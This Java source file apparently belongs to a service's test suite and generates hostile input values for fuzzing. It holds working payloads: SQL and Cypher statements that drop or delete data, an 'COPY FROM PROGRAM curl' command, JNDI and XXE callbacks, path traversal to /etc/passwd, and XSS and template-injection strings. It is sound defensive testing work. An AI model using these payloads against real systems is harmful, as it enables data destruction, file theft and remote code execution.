package org.tequio.contract;

import java.net.URI;
import java.net.URISyntaxException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

/**
 * A value that nobody sends in good faith.
 *
 * @param family what it tries
 * @param text for a reader; empty where the bytes are no text
 * @param encoded as it stands in an address
 */
record HostileValue(Family family, String text, String encoded) {

    /** What a hostile value tries; {@code PORT} in its words is one that should hear nothing. */
    enum Family {
        QUOTES("'", "\"", "`", "' OR '1'='1", "\") OR (\"\"=\"", "``", "\\'", "’“”´", "'''", "\\\\\""),
        ESCAPES(
                "\\u0060",
                "\\u0027) DETACH DELETE n //",
                "\\x27",
                "&#39;",
                "%27",
                "%2527",
                "\\0",
                "\\u0000",
                "\\",
                "\\u{60}"),
        LUCENE(
                "*",
                "*:*",
                "name:*",
                "+ - && || ! ( ) { } [ ] ^ ~ ? : \\ /",
                "/.*/",
                "[* TO *]",
                "a~ b~2^9",
                "AND OR NOT",
                "coop AND NOT coop",
                "id:[0 TO z]",
                "(((((((((",
                "\"unclosed",
                "a*b?c",
                "-coop",
                "_exists_:name"),
        CYPHER(
                "'}) DETACH DELETE n //",
                "`}) MATCH (n) DETACH DELETE n RETURN 1 //",
                "x' RETURN 1 UNION MATCH (n) RETURN n //",
                "$limit",
                "CALL dbms.components()",
                "' SET a.name = 'x",
                "{.*}",
                "a.sortKey > '' OR true",
                "CALL db.index.fulltext.drop('actor_names')",
                "CREATE (:Actor {id: 'x'})",
                "/* */ MATCH (n)",
                "0) WITH 1 AS x DELETE n"),
        OUTBOUND(
                "LOAD CSV FROM 'http://127.0.0.1:PORT/x' AS row RETURN row",
                "' LOAD CSV FROM 'http://127.0.0.1:PORT/x' AS r CREATE (:Actor {id: r[0]}) //",
                "CALL apoc.load.json('http://127.0.0.1:PORT/')",
                "http://127.0.0.1:PORT/",
                "//127.0.0.1:PORT/",
                "${jndi:ldap://127.0.0.1:PORT/a}",
                "'; COPY actor FROM PROGRAM 'curl http://127.0.0.1:PORT/' --",
                "<!DOCTYPE x [<!ENTITY y SYSTEM \"http://127.0.0.1:PORT/\">]>",
                "file:///etc/passwd"),
        SQL(
                "'; DROP TABLE actor; --",
                "1; DELETE FROM outbox",
                "' UNION SELECT NULL, version() --",
                "1 OR 1=1",
                "'; SELECT pg_sleep(20) --",
                "$$; TRUNCATE actor; $$",
                "E'\\047'",
                "%",
                "_",
                "?",
                ":q",
                "{fn now()}"),
        LINES(
                "\r\nSet-Cookie: a=b",
                "a\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
                "\n",
                "\r",
                "a\nb",
                "\u2028",
                "\u0085",
                "\t",
                "\u000b"),
        NUL("\0", "a\0b", "\0\0\0", "coop\0' OR 1=1"),
        DIRECTION(
                "\u202eevil",
                "\u200f",
                "\u2066a\u2069",
                "\ufeff",
                "\u200b",
                "a\u0301\u0327\u0323",
                "\u061c",
                "\u202d\u202c"),
        SCRIPTS("👩‍👩‍👧‍👦", "﷽", "ıİß", "협동조합", "ﬃ", "Å", "𝔞𝔟", "٢٠", "नि", "\ud83d\udc69\u200d", "⁂"),
        PATHS(
                "../../etc/passwd",
                "..",
                ".",
                "/",
                "a/b",
                "a;b=c",
                "..\\..\\x",
                "?x=1",
                "#x",
                "a//b",
                "%2e%2e%2f",
                "~",
                ";"),
        TEMPLATES(
                "{{7*7}}",
                "${7*7}",
                "#{7*7}",
                "%s%n%x",
                "<script>alert(1)</script>",
                "<%= 1 %>",
                "@{x}",
                "${java:version}"),
        NUMBERS(
                "-1",
                "0",
                "1e309",
                "NaN",
                "99999999999999999999",
                "0x10",
                "١٢",
                "1,5",
                "-0",
                "2147483648",
                "1_000",
                "+1",
                "1.0"),
        JSON("null", "[]", "{}", "{\"$ne\":null}", "[1", "\"\"", "{\"a\":{\"b\":[", "undefined"),
        /** Bytes that are no UTF-8, and percent signs that encode nothing: written as they are sent. */
        BROKEN("%ff%fe", "%c0%ae%c0%ae", "%zz", "%e2%28%a1", "%f0%9f", "%", "%ed%a0%80", "%80", "%u0060", "%2"),
        LONG("a", "'", "coop ", "((", "é", "𝔞", "\\", "*", "a b ", "\u202e", "🌍", "\"x\" ");

        private final List<String> words;

        Family(String... words) {
            this.words = List.of(words);
        }
    }

    private static final int TEN_KILOBYTES = 10_240;
    /** Values in a fixed order for each seed; every family in turn, first its words as they are, then mixtures of them. */
    static List<HostileValue> some(int count, long seed, int port) {
        var random = new Random(seed);
        var families = Family.values();
        var values = new ArrayList<HostileValue>();
        for (int round = 0; values.size() < count; round++) {
            for (int i = 0; i < families.length && values.size() < count; i++) {
                values.add(of(families[i], round, random, port));
            }
        }
        return values;
    }

    /** The same behind a word that nothing holds: as text it finds nothing, as a query it may. */
    HostileValue behind(String word) {
        return new HostileValue(family, word + " " + text, word + "%20" + encoded);
    }

    /** Whether a path that has it as a step leads elsewhere by RFC 3986 alone. */
    boolean isNoStep() {
        return family != Family.BROKEN && Stream.of("", ".", "..").anyMatch(text::equals);
    }

    /** Whether an address that holds it is none, so that the HTTP server refuses it before the application sees it. */
    boolean breaksTheAddress() {
        try {
            new URI("/" + encoded);
            return false;
        } catch (URISyntaxException e) {
            return true;
        }
    }

    boolean fitsAHeader() {
        return text.chars().allMatch(c -> c >= ' ' && c < 127);
    }

    private static HostileValue of(Family family, int round, Random random, int port) {
        var words = family.words;
        var word = round < words.size() ? words.get(round) : mixture(words, random);
        var text = (family == Family.LONG ? word.repeat(TEN_KILOBYTES / bytes(word)) : word)
                .replace("PORT", String.valueOf(port));
        return family == Family.BROKEN
                ? new HostileValue(family, "", text.replace(" ", "%20"))
                : new HostileValue(family, text, encode(text));
    }

    private static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String mixture(List<String> words, Random random) {
        var all = Arrays.stream(Family.values())
                .flatMap(other -> other.words.stream())
                .toList();
        return words == Family.BROKEN.words
                ? one(words, random) + encode(one(all, random)) + one(words, random)
                : one(words, random) + (random.nextBoolean() ? " " : "") + one(all, random) + one(words, random);
    }

    private static String one(List<String> words, Random random) {
        return words.get(random.nextInt(words.size()));
    }

    private static int bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8).length;
    }

    @Override
    public String toString() {
        return family + " " + (encoded.length() > 120 ? encoded.substring(0, 120) + "…" : encoded);
    }
}
